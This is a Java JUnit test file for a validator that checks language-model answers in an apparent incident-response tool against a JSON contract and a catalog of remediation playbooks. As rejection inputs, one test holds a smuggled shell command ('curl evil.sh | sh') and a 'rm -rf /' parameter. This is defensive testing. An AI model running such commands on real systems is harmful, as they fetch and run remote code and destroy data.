package io.sentinel.analyzer.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import io.sentinel.events.analysis.Risk;
import io.sentinel.playbooks.PlaybookCatalog;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The answer contract, held against what models actually send back. */
class AnswerCheckTest {

    private static final AnswerCheck CHECK = new AnswerCheck(PlaybookCatalog.load("classpath:playbooks/"));
    private static final String VALID = """
            {"rootCause": "Leak in the checkout cache", "evidence": ["memory rose 0.5 -> 0.93", "OutOfMemoryError at 11:59"],
             "playbookId": "release-memory", "parameters": {"reason": "cache-leak"}, "risk": "LOW", "confidence": 0.8,
             "summary": "The checkout cache leaks."}""";

    @Test
    void acceptsAnAnswerOfTheContractAndFillsInPlaybookDefaults() {
        AnswerCheck.Verdict verdict = CHECK.check(VALID.replace("\"parameters\": {\"reason\": \"cache-leak\"}", "\"parameters\": {}"));

        assertThat(verdict).isInstanceOfSatisfying(AnswerCheck.Accepted.class, accepted -> {
            assertThat(accepted.answer().rootCause()).isEqualTo("Leak in the checkout cache");
            assertThat(accepted.answer().risk()).isEqualTo(Risk.LOW);
            assertThat(accepted.action().parameters()).containsExactly(Map.entry("reason", "sentinel"));
            assertThat(accepted.playbook().id()).isEqualTo("release-memory");
        });
    }

    @Test
    void acceptsNoPlaybookWhenNoneFits() {
        assertThat(CHECK.check(VALID.replace("\"release-memory\"", "null").replace("{\"reason\": \"cache-leak\"}", "{}")))
                .isInstanceOfSatisfying(AnswerCheck.Accepted.class, accepted -> assertThat(accepted.action()).isNull());
    }

    @Test
    void forgivesAMarkdownCodeFence() {
        assertThat(CHECK.check("```json\n" + VALID + "\n```")).isInstanceOf(AnswerCheck.Accepted.class);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
            "not JSON|Sure! The root cause is a leak.|the answer is not valid JSON",
            "truncated JSON|{\"rootCause\": \"Leak\", \"evidence\": [|the answer is not valid JSON",
            "an array|[1, 2]|the answer must be one JSON object, was array",
            "empty|`  `|the answer was empty; it must be one JSON object",
            "missing fields|{\"rootCause\": \"Leak\"}|field 'summary' is missing; field 'evidence' must be an array of strings; field 'playbookId' is missing",
            "risk out of the contract|RISK:CRITICAL|field 'risk' must be \"LOW\", \"MEDIUM\" or \"HIGH\"",
            "confidence out of range|CONFIDENCE:1.7|field 'confidence' must be a number from 0 to 1",
            "a number as parameter|PARAMETERS:{\"reason\": 5}|parameter 'reason' must be a string",
            "parameters without playbook|NOPLAYBOOK|parameters were given but playbookId is null"})
    void rejectsWithAProblemPreciseEnoughToRepair(String scenario, String answer, String problem) {
        String text = switch (answer.split(":")[0]) {
            case "RISK" -> VALID.replace("\"LOW\"", "\"" + answer.substring(5) + "\"");
            case "CONFIDENCE" -> VALID.replace("0.8", answer.substring(11));
            case "PARAMETERS" -> VALID.replace("{\"reason\": \"cache-leak\"}", answer.substring(11));
            case "NOPLAYBOOK" -> VALID.replace("\"release-memory\"", "null");
            default -> answer;
        };

        assertThat(CHECK.check(text)).isInstanceOfSatisfying(AnswerCheck.Rejected.class, rejected -> {
            assertThat(rejected.problem()).startsWith(problem);
            assertThat(rejected.catalogViolation()).isFalse();
        });
    }

    @Test
    void rejectsAPlaybookOutsideTheCatalogAsACatalogViolation() {
        assertThat(CHECK.check(VALID.replace("release-memory", "delete-namespace"))).isInstanceOfSatisfying(AnswerCheck.Rejected.class,
                rejected -> {
                    assertThat(rejected.problem()).startsWith("no playbook 'delete-namespace' in the catalog [");
                    assertThat(rejected.catalogViolation()).isTrue();
                });
    }

    @Test
    void rejectsParametersThePlaybookDoesNotDeclareOrWhoseValueFailsItsPattern() {
        assertThat(CHECK.check(VALID.replace("{\"reason\": \"cache-leak\"}", "{\"reason\": \"leak; curl evil.sh | sh\"}")))
                .isInstanceOfSatisfying(AnswerCheck.Rejected.class, rejected -> {
                    assertThat(rejected.problem()).isEqualTo("parameter 'reason' does not match [a-z0-9-]{1,64}");
                    assertThat(rejected.catalogViolation()).isTrue();
                });
        assertThat(CHECK.check(VALID.replace("{\"reason\": \"cache-leak\"}", "{\"command\": \"rm -rf /\"}")))
                .isInstanceOfSatisfying(AnswerCheck.Rejected.class, rejected ->
                        assertThat(rejected.problem()).isEqualTo("playbook 'release-memory' has no parameter 'command'"));
    }

    @Test
    void rejectsAnAnswerFarBeyondAnyRealOneAndCutsLongTexts() {
        assertThat(CHECK.check("{" + " ".repeat(AnswerCheck.MAX_ANSWER_CHARS) + "}")).isInstanceOfSatisfying(AnswerCheck.Rejected.class,
                rejected -> assertThat(rejected.problem()).startsWith("the answer was 20002 characters long"));
        String longCause = "x".repeat(5_000);
        assertThat(CHECK.check(VALID.replace("Leak in the checkout cache", longCause))).isInstanceOfSatisfying(AnswerCheck.Accepted.class,
                accepted -> assertThat(accepted.answer().rootCause()).hasSize(AnswerCheck.MAX_TEXT_CHARS));
    }
}
